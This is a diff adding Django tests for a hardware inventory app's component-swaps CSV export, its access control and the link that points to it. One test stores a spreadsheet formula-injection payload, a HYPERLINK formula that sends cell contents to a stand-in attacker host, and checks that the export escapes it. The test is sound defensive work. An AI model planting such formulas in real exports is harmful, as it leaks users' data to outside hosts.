@@ -206,3 +206,66 @@ def test_node_page_shows_no_flag_under_the_threshold(fleet, make_user, settings)
     html = client.get("/inventory/nodes/gpu001/").content.decode()
 
     assert "data-repeat-offender" not in html
+
+
+# -- the swaps CSV --------------------------------------------------------------------------------
+
+
+def test_swaps_csv_lists_every_swap_with_its_serials_uuid_firmware_case_and_who(
+    fleet, make_user
+):
+    import csv
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    from inventory.swaps import component_replace, slot_for
+
+    operator = make_user(Role.OPERATOR)
+    gpu001 = fleet.nodes[0]
+    earlier = timezone.now() - timedelta(days=2)
+    component_replace(
+        slot=slot_for(kind="gpu", node=gpu001, gpu_index=3), serial_in="NEW-GPU-3",
+        uuid_in="GPU-aaaaaaaa-0000-0000-0000-000000000003", firmware_version_in="96.00.89.00.01",
+        reference="RC-7", actor=operator, swapped_at=earlier,
+    )
+    component_replace(slot=slot_for(kind="psu", node=fleet.nodes[1], position="PSU1"),
+                      serial_in='=HYPERLINK("http://evil.example/?"&A1)', serial_out="PSU-OLD")
+    client = Client()
+    client.force_login(make_user(Role.VIEWER))
+
+    response = client.get("/faults/swaps.csv")
+
+    assert response.status_code == 200 and response["Content-Type"] == "text/csv"
+    assert 'filename="swaps.csv"' in response["Content-Disposition"]
+    rows = list(csv.DictReader(StringIO(response.content.decode())))
+    assert len(rows) == 2
+    gpu = rows[0]
+    assert gpu["swapped_at"] == earlier.isoformat()
+    assert (gpu["node"], gpu["kind"], gpu["slot"]) == ("gpu001", "gpu", "gpu001 GPU3")
+    assert (gpu["serial_out"], gpu["serial_in"]) == ("165432200103", "NEW-GPU-3")
+    assert gpu["uuid_out"] == "GPU-00010003-0000-0000-0000-000000000000"
+    assert gpu["uuid_in"] == "GPU-aaaaaaaa-0000-0000-0000-000000000003"
+    assert gpu["firmware_version_in"] == "96.00.89.00.01"
+    assert (gpu["reference"], gpu["swapped_by"]) == ("RC-7", operator.username)
+    psu = rows[1]
+    assert (psu["node"], psu["kind"], psu["position"], psu["serial_out"]) == (
+        "gpu002", "psu", "PSU1", "PSU-OLD")
+    assert psu["serial_in"].startswith("'=HYPERLINK")
+
+
+def test_swaps_csv_is_refused_to_tenant_admins_like_the_cases_csv(fleet, make_user, tenant_a):
+    client = Client()
+    client.force_login(make_user(Role.TENANT_ADMIN, tenant=tenant_a))
+
+    assert client.get("/faults/swaps.csv").status_code == 403
+    assert client.get("/faults/repair-cases.csv").status_code == 403
+
+
+def test_statistics_page_links_the_swaps_csv(fleet, make_user):
+    client = Client()
+    client.force_login(make_user(Role.VIEWER))
+
+    html = client.get("/faults/statistics/").content.decode()
+
+    assert 'href="/faults/swaps.csv" download' in html
